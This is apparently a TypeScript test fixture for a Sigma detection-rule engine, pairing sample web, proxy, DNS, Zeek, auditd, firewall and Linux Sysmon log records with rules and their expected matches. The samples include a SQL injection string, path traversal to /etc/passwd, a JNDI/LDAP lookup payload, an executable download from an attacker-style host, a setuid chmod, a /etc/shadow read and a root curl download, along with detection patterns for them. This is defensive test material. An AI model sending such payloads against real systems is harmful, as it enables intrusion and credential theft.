import { type SigmaCase, sigmaCase, windowsRecord } from './sigma-case.ts';

// Web servers, proxies, resolvers, firewalls, Zeek and Linux.

const text = String.raw;
const CASES: SigmaCase[] = [];
export const DEVICE_CASES: readonly SigmaCase[] = CASES;

CASES.push(
  sigmaCase(
    'web',
    { category: 'webserver' },
    [
      '203.0.113.5 - - [05/Jan/2026:03:04:05 +0000] "GET /index.php?id=1%27%20UNION%20SELECT HTTP/1.1" 200 512 "-" "sqlmap/1.5"',
      '203.0.113.6 - ana [05/Jan/2026:03:04:05 +0000] "POST /cgi-bin/../../etc/passwd HTTP/1.1" 404 12 "http://ref.example/" "Mozilla/5.0"',
      {
        'cs-method': 'GET',
        'cs-uri-stem': '/owa/auth.aspx',
        'cs-uri-query': 'x=$' + '{jndi:ldap://e}',
        'sc-status': 500,
        'cs-user-agent': 'curl/8',
        'c-ip': '198.51.100.2',
      },
    ],
    [
      [text`{s: {cs-method: GET, cs-uri-query|contains: 'UNION%20SELECT'}, condition: s}`, [0]],
      [text`{s: {sc-status: 404}, condition: s}`, [1]],
      [text`{s: {sc-status: [200, 500]}, condition: s}`, [0, 2]],
      [text`{s: {cs-user-agent|contains: SQLMAP}, condition: s}`, [0]],
      [text`{s: {cs-uri-stem|contains: '/etc/passwd'}, condition: s}`, [1]],
      [text`{s: {cs-uri-query|contains: '{jndi:'}, condition: s}`, [2]],
      [text`{s: {cs-uri-stem|endswith: '.aspx'}, condition: s}`, [2]],
      [text`{k: ['{jndi:ldap','sqlmap'], condition: k}`, [0, 2]],
      [text`{s: {cs-referer: 'http://ref.example/'}, condition: s}`, [1]],
    ],
  ),
);
CASES.push(
  sigmaCase(
    'proxy',
    { category: 'proxy' },
    [
      {
        'c-uri': 'http://evil.example/a.exe',
        'c-useragent': 'Mozilla/4.0',
        'cs-method': 'GET',
        'cs-host': 'evil.example',
        'sc-status': 200,
        'r-dns': 'evil.example',
        'c-uri-extension': 'exe',
        'c-uri-query': 'a=b',
        'c-ip': '10.0.0.9',
      },
      {
        url: 'https://good.example/x?y=1',
        http_method: 'POST',
        user_agent: 'python-requests/2',
        status: 403,
        src_ip: '10.0.0.8',
        dest_host: 'good.example',
      },
    ],
    [
      [text`{s: {c-uri|endswith: '/a.exe'}, condition: s}`, [0]],
      [text`{s: {c-useragent|startswith: Mozilla}, condition: s}`, [0]],
      [text`{s: {cs-host: evil.example}, condition: s}`, [0]],
      [text`{s: {r-dns|endswith: .example}, condition: s}`, [0]],
      [text`{s: {c-uri-extension: [exe, dll]}, condition: s}`, [0]],
      [text`{s: {cs-method: POST, c-useragent|contains: python}, condition: s}`, [1]],
      [text`{s: {c-uri|contains: '\?y=1'}, condition: s}`, [1]],
      [text`{s: {c-uri-query: 'a=b'}, condition: s}`, [0]],
    ],
  ),
);
CASES.push(
  sigmaCase(
    'dns',
    { category: 'dns' },
    [
      { query: 'aaa.stage.123.evil.example', record_type: 'TXT', src_ip: '10.0.0.3', answer: 'x' },
      {
        ts: 1767582245,
        uid: 'C1',
        'id.orig_h': '10.0.0.3',
        'id.resp_h': '8.8.8.8',
        query: 'mail.example',
        qtype_name: 'A',
        answers: ['1.2.3.4', '5.6.7.8'],
        rcode_name: 'NOERROR',
      },
    ],
    [
      [text`{s: {query|startswith: 'aaa.stage.'}, condition: s}`, [0]],
      [text`{s: {query|contains: '.123.', record_type: TXT}, condition: s}`, [0]],
      [text`{s: {query: 'mail.example'}, condition: s}`, [1]],
    ],
  ),
);
CASES.push(
  sigmaCase(
    'zeek',
    { product: 'zeek', service: 'dns' },
    [
      {
        ts: 1767582245,
        uid: 'C1',
        'id.orig_h': '10.0.0.3',
        'id.orig_p': 5353,
        'id.resp_h': '8.8.8.8',
        'id.resp_p': 53,
        proto: 'udp',
        query: 'mail.example',
        qtype_name: 'A',
        answers: ['1.2.3.4', '5.6.7.8'],
        rejected: false,
        Z: 0,
      },
      {
        ts: 1767582245,
        uid: 'C2',
        id: { orig_h: '10.0.0.4', resp_h: '9.9.9.9', resp_p: 53 },
        query: 'x.evil',
        answers: ['127.0.0.1'],
      },
    ],
    [
      [text`{s: {id.resp_p: 53}, condition: s}`, [0, 1]],
      [text`{s: {id.orig_h|cidr: '10.0.0.0/30'}, condition: s}`, [0]],
      [text`{s: {query|endswith: .evil}, condition: s}`, [1]],
      [text`{s: {answers|contains: '5.6.7'}, condition: s}`, [0]],
      [text`{s: {answers: '1.2.3.4'}, condition: s}`, [0]],
      [text`{s: {rejected: 'false'}, condition: s}`, [0]],
      [text`{s: {Z: 0}, condition: s}`, [0]],
    ],
  ),
);
CASES.push(
  sigmaCase(
    'auditd',
    { product: 'linux', service: 'auditd' },
    [
      'type=EXECVE msg=audit(1767582245.123:42): argc=3 a0="chmod" a1="+s" a2="/tmp/x"',
      'type=SYSCALL msg=audit(1767582245.123:43): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 comm="bash" exe="/usr/bin/bash" key="rootcmd"',
      'type=PATH msg=audit(1767582245.123:44): item=0 name="/etc/shadow" nametype=NORMAL',
    ],
    [
      [text`{s: {type: EXECVE, a0: chmod, a1|contains: '+s'}, condition: s}`, [0]],
      [text`{s: {type: SYSCALL, syscall: 59}, condition: s}`, [1]],
      [text`{s: {type: SYSCALL, comm: bash, key: rootcmd}, condition: s}`, [1]],
      [text`{s: {type: PATH, name: /etc/shadow}, condition: s}`, [2]],
      [text`{s: {exe|endswith: /bash}, condition: s}`, [1]],
      [text`{s: {a2|startswith: /tmp/}, condition: s}`, [0]],
      [text`{s: {uid: 0}, condition: s}`, [1]],
      [text`{k: ['/etc/shadow'], condition: k}`, [2]],
    ],
  ),
);
CASES.push(
  sigmaCase(
    'firewall',
    { category: 'firewall' },
    [
      {
        src_ip: '10.0.0.3',
        dst_ip: '203.0.113.9',
        src_port: 50000,
        dst_port: 3389,
        action: 'deny',
        proto: 'tcp',
      },
      {
        src_ip: '10.0.0.4',
        dst_ip: '203.0.113.10',
        src_port: 50001,
        dst_port: 443,
        action: 'allow',
        proto: 'tcp',
      },
    ],
    [
      [text`{s: {dst_port: 3389}, condition: s}`, [0]],
      [text`{s: {action: [deny, block]}, condition: s}`, [0]],
      [text`{s: {dst_ip|cidr: '203.0.113.8/30', src_ip|startswith: '10.'}, condition: s}`, [0, 1]],
      [text`{s: {src_port|gte: 50001}, condition: s}`, [1]],
      [text`{s: {dst_ip|neq: '203.0.113.9'}, condition: s}`, [1]],
    ],
  ),
);
CASES.push(
  sigmaCase(
    'linux process (sysmon)',
    { product: 'linux', category: 'process_creation' },
    [
      windowsRecord(
        1,
        {
          Image: '/usr/bin/curl',
          CommandLine: 'curl -o /tmp/x http://e/',
          ParentImage: '/usr/bin/bash',
          User: 'root',
          CurrentDirectory: '/root',
          LogonId: 0,
        },
        'Linux-Sysmon/Operational',
        'Linux-Sysmon',
      ),
      windowsRecord(1, { Image: 'C:\\x\\curl.exe', CommandLine: 'curl' }),
    ],
    [
      [text`{s: {Image|endswith: /curl, CommandLine|contains|all: [' -o ','/tmp/']}, condition: s}`, [0]],
      [text`{s: {User: root, ParentImage|endswith: /bash}, condition: s}`, [0]],
      [text`{s: {CommandLine|contains: curl}, condition: s}`, [0]],
    ],
  ),
);
